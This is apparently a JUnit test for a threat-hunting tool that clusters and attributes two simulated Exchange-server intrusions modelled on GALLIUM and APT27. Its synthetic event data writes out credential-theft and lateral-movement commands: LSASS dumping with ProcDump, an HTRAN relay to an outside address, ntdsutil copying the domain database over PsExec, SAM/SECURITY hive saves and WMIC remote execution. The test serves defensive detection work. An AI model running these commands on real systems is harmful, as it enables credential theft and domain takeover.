package org.dotlink.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/**
 * Two actors on the same Exchange server and domain controller within the same hour, written as NXLog
 * JSON events: a GALLIUM-like one (China Chopper in the ECP worker, nbtscan, ProcDump on LSASS, an HTRAN
 * relay to its own server, PsExec to the DC, ntdsutil) and an APT27-like one (a backdoor DLL in the OWA
 * worker, PowerShell, hives saved, a password-protected 7-Zip archive, its own server, WMI to the DC).
 * Their stories are apart and so are their clusters; with ATT&CK data, the first resembles GALLIUM.
 */
class TwoActorsTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    private final WrittenEvents log = new WrittenEvents();

    private void connection(String time, String host, String guid, String image, String destination) {
        log.event(time, host, "Microsoft-Windows-Sysmon/Operational", 3, Map.of("ProcessGuid", guid, "Image", image,
                "Initiated", "true", "SourceIp", "10.0.0.5", "DestinationIp", destination, "DestinationPort", "443"));
    }

    @Test
    void twoActorsOnTheSameHostsAreTwoClusters() throws Exception {
        String sys = "NT AUTHORITY\\SYSTEM";
        String w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
        String cmd = "C:\\Windows\\System32\\cmd.exe";
        String exch = "EXCH01.corp.local";
        String dc = "DC01.corp.local";
        // GALLIUM-like, in the ECP application pool
        log.process("2021-03-03 10:00:00", exch, "{a1}", w3wp, "w3wp.exe -ap MSExchangeECPAppPool", "{s0}",
                "C:\\Windows\\System32\\svchost.exe", sys);
        log.process("2021-03-03 10:01:00", exch, "{a2}", cmd, "cmd /c cd /d C:\\inetpub&whoami&echo [S]&cd&echo [E]", "{a1}",
                w3wp, sys);
        log.process("2021-03-03 10:02:00", exch, "{a3}", "C:\\ProgramData\\nbtscan.exe", "nbtscan.exe 10.0.0.0/24", "{a2}",
                cmd, sys);
        log.process("2021-03-03 10:03:00", exch, "{a4}", "C:\\ProgramData\\pd.exe", "pd.exe -accepteula -ma lsass.exe o.dmp",
                "{a2}", cmd, sys);
        log.process("2021-03-03 10:04:00", exch, "{a5}", "C:\\ProgramData\\h.exe", "h.exe -tran 443 203.0.113.10 8443",
                "{a2}", cmd, sys);
        connection("2021-03-03 10:04:01", exch, "{a5}", "C:\\ProgramData\\h.exe", "203.0.113.10");
        log.process("2021-03-03 10:05:00", exch, "{a6}", "C:\\ProgramData\\PsExec.exe",
                "PsExec.exe \\\\DC01 -accepteula -s cmd /c ntdsutil", "{a2}", cmd, sys);
        log.service("2021-03-03 10:05:05", dc);
        log.process("2021-03-03 10:05:06", dc, "{b1}", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "{b0}",
                "C:\\Windows\\System32\\services.exe", sys);
        log.process("2021-03-03 10:06:00", dc, "{b2}", "C:\\Windows\\System32\\ntdsutil.exe",
                "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\\x\" q q", "{b1}", "C:\\Windows\\PSEXESVC.exe", sys);
        // APT27-like, in the OWA application pool, half an hour later on the same two hosts
        log.process("2021-03-03 10:30:00", exch, "{c1}", w3wp, "w3wp.exe -ap MSExchangeOWAAppPool", "{s0}",
                "C:\\Windows\\System32\\svchost.exe", sys);
        log.event("2021-03-03 10:31:00", exch, "Microsoft-Windows-Sysmon/Operational", 7, Map.of("ProcessGuid", "{c1}",
                "Image", w3wp, "ImageLoaded",
                "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\bin\\ExTr.dll",
                "Signed", "false", "SignatureStatus", "Unavailable", "Hashes", "SHA256=" + "ab".repeat(32)));
        String ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        log.process("2021-03-03 10:32:00", exch, "{c2}", ps, "powershell -nop -w hidden", "{c1}", w3wp, sys);
        log.process("2021-03-03 10:33:00", exch, "{c3}", "C:\\Windows\\System32\\reg.exe",
                "reg.exe save hklm\\sam C:\\Users\\Public\\s.hiv", "{c2}", ps, sys);
        log.process("2021-03-03 10:34:00", exch, "{c4}", "C:\\Users\\Public\\7za.exe",
                "7za.exe a -pZx81 C:\\Users\\Public\\h.7z C:\\Users\\Public\\s.hiv", "{c2}", ps, sys);
        connection("2021-03-03 10:35:00", exch, "{c2}", ps, "198.51.100.20");
        log.process("2021-03-03 10:36:00", exch, "{c5}", "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic /node:DC01 process call create \"cmd /c reg save hklm\\security c:\\windows\\temp\\y.hiv\"",
                "{c2}", ps, sys);
        log.process("2021-03-03 10:36:05", dc, "{d1}", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "wmiprvse.exe -Embedding",
                "{d0}", "C:\\Windows\\System32\\svchost.exe", sys);
        log.process("2021-03-03 10:36:06", dc, "{d2}", cmd, "cmd /c reg save hklm\\security c:\\windows\\temp\\y.hiv",
                "{d1}", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", sys);
        log.process("2021-03-03 10:36:07", dc, "{d3}", "C:\\Windows\\System32\\reg.exe",
                "reg save hklm\\security c:\\windows\\temp\\y.hiv", "{d2}", cmd, sys);
        Path logs = Files.createDirectories(tmp.resolve("logs"));
        log.writeTo(logs.resolve("events.json"));

        Path out = tmp.resolve("out");
        List<String> args = new ArrayList<>(List.of("hunt", logs.toString(), "--out", out.toString(), "--quiet"));
        Path bundle = Path.of(System.getProperty("dotlink.shared.data", "../../shared/data"), "attack",
                "enterprise-attack.json");
        boolean withAttack = Files.isRegularFile(bundle);
        if (withAttack) {
            args.addAll(List.of("--attack", bundle.toString()));
        } else {
            System.out.println("SKIPPED (attribution part): no ATT&CK bundle at " + bundle.toAbsolutePath());
        }
        CommandLine cli = Dotlink.commandLine();
        StringWriter err = new StringWriter();
        cli.setErr(new PrintWriter(err));
        cli.setOut(new PrintWriter(new StringWriter()));
        assertEquals(0, cli.execute(args.toArray(new String[0])), err.toString());

        JsonNode stories = JSON.readTree(out.resolve("stories.json").toFile()).path("stories");
        assertEquals(2, stories.size(), stories.toPrettyString());
        JsonNode doc = JSON.readTree(out.resolve("clusters.json").toFile());
        JsonNode clusters = doc.path("clusters");
        assertEquals(2, clusters.size(), doc.toPrettyString());
        JsonNode gallium = null;
        JsonNode apt27 = null;
        for (JsonNode c : clusters) {
            assertEquals(List.of("exch01", "dc01"), texts(c.path("hosts")), "both actors were on both hosts");
            if (texts(c.path("software")).contains("S0020")) {
                gallium = c;
            } else {
                apt27 = c;
            }
        }
        assertTrue(gallium != null && apt27 != null, doc.toPrettyString());
        assertEquals(List.of("S0020", "S0029", "S0040", "S0590"), texts(gallium.path("software")));
        assertEquals(List.of("S0075"), texts(apt27.path("software")), "reg.exe, and nothing of the other actor's");
        assertTrue(texts(gallium.path("indicators")).containsAll(List.of("file:h.exe", "file:nbtscan.exe")));
        assertTrue(texts(apt27.path("indicators")).contains("file:7za.exe"));
        JsonNode overlap = doc.path("overlap").get(0);
        assertEquals(0.0, overlap.path("software_jaccard").asDouble(), "no tool in common");
        assertTrue(overlap.path("technique_jaccard").asDouble() < 0.3, overlap.toString());
        if (withAttack) {
            List<String> candidates = new ArrayList<>();
            gallium.path("attribution").forEach(a -> candidates.add(a.path("id").asText()));
            System.out.println("GALLIUM-like cluster candidates: " + candidates + "; evidence for the first: "
                    + gallium.path("attribution").get(0).path("evidence_for"));
            assertTrue(candidates.subList(0, 3).contains("G0093"), "GALLIUM among the top 3: " + candidates);
        }
    }

    private static List<String> texts(JsonNode array) {
        List<String> out = new ArrayList<>();
        array.forEach(n -> out.add(n.asText()));
        return out;
    }
}
